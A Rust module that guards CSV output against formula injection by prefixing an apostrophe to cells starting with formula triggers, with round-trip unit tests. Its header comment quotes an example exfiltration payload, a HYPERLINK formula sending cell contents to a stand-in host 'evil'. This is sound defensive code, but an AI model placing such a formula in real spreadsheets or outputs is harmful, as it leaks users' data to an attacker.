//! CSV cells that a spreadsheet would run as a formula ("CSV injection"). Lead text is
//! written by strangers, and an LLM's justification can be steered by a hostile message, so
//! a cell such as `=HYPERLINK("http://evil/?"&A1, "click")` must not reach Excel or Sheets
//! as it is.
//!
//! The rule, for every text cell of every CSV `bench` writes (OWASP's convention): a cell
//! that begins with `=`, `+`, `-`, `@`, a tab or a carriage return — after any apostrophes
//! it already begins with — gets one more apostrophe in front, which spreadsheets show as
//! text and do not evaluate. Reading a CSV takes exactly that apostrophe off again, so that
//! `bench` reads its own files back unchanged. JSONL is always written exactly.
//!
//! Counting the apostrophes already there is what makes the round trip exact: `'=x` (an
//! apostrophe the user typed) is written `''=x` and read back as `'=x`, while `'tis` is
//! neither touched on writing nor on reading.

use std::borrow::Cow;

/// First characters that make a spreadsheet treat a cell as a formula.
const TRIGGERS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

fn is_formula_like(cell: &str) -> bool {
    cell.trim_start_matches('\'').starts_with(TRIGGERS)
}

/// The cell as written to a CSV: with one apostrophe in front when it would be a formula.
pub fn guard_formula(cell: &str) -> Cow<'_, str> {
    if is_formula_like(cell) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// The cell as it was before [`guard_formula`]: the apostrophe it added taken off.
pub fn unguard_formula(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if is_formula_like(rest) => rest,
        _ => cell,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formula_cells_are_neutralised_and_read_back_exactly() {
        let cases = [
            ("=HYPERLINK(\"http://x\")", "'=HYPERLINK(\"http://x\")"),
            ("+1", "'+1"),
            ("-2", "'-2"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\tx", "'\tx"),
            ("\rx", "'\rx"),
            ("'=x", "''=x"),
            ("''@x", "'''@x"),
            ("'tis", "'tis"),
            ("plain text", "plain text"),
            ("", ""),
            ("a=b", "a=b"),
            ("'", "'"),
        ];
        for (cell, written) in cases {
            assert_eq!(guard_formula(cell), written, "{cell:?}");
            assert_eq!(unguard_formula(written), cell, "{cell:?}");
        }
    }
}
